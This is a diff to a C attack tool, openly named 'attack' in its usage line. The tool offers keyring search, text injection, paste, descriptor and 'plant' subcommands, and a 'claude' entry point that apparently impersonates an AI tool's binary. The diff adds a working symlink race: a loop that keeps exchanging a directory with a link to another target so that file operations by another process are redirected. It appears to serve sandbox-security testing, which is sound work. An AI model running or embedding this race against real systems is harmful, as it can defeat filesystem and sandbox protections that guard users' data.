@@ -12,6 +12,7 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <time.h>
 #include <sys/ioctl.h>
 #include <sys/prctl.h>
 #include <sys/stat.h>
@@ -173,6 +174,20 @@ static int claude(char **args) {
   return 9;
 }
 
+/* Exchanges a directory with a link to another one, again and again until it is killed. */
+static int swap(const char *directory, const char *target) {
+  char other[4096];
+  snprintf(other, sizeof other, "%s.other", directory);
+  if (symlink(target, other)) return perror(other), 1;
+  puts("swapping");
+  fflush(stdout);
+  for (;;) {
+    if (renameat2(AT_FDCWD, directory, AT_FDCWD, other, RENAME_EXCHANGE)) return perror("exchange"), 1;
+    struct timespec pause = {0, 100000};
+    nanosleep(&pause, NULL);
+  }
+}
+
 int main(int argc, char **argv) {
   if (!strcmp(basename(argv[0]), "claude")) return claude(argv);
   if (argc > 2 && !strcmp(argv[1], "no-namespaces")) return no_namespaces(argv + 2);
@@ -181,6 +196,7 @@ int main(int argc, char **argv) {
   if (argc == 3 && !strcmp(argv[1], "keyring")) return search(argv[2]);
   if (argc == 2 && !strcmp(argv[1], "descriptors")) return descriptors();
   if (argc > 6 && !strcmp(argv[1], "plant")) return plant(argv + 2);
-  fprintf(stderr, "usage: attack type TEXT | paste | keyring NAME | descriptors | plant KEY VALUE FILE DIRECTORY COMMAND... | no-namespaces COMMAND...\n");
+  if (argc == 4 && !strcmp(argv[1], "swap")) return swap(argv[2], argv[3]);
+  fprintf(stderr, "usage: attack swap DIRECTORY TARGET | type TEXT | paste | keyring NAME | descriptors | plant KEY VALUE FILE DIRECTORY COMMAND... | no-namespaces COMMAND...\n");
   return 2;
 }
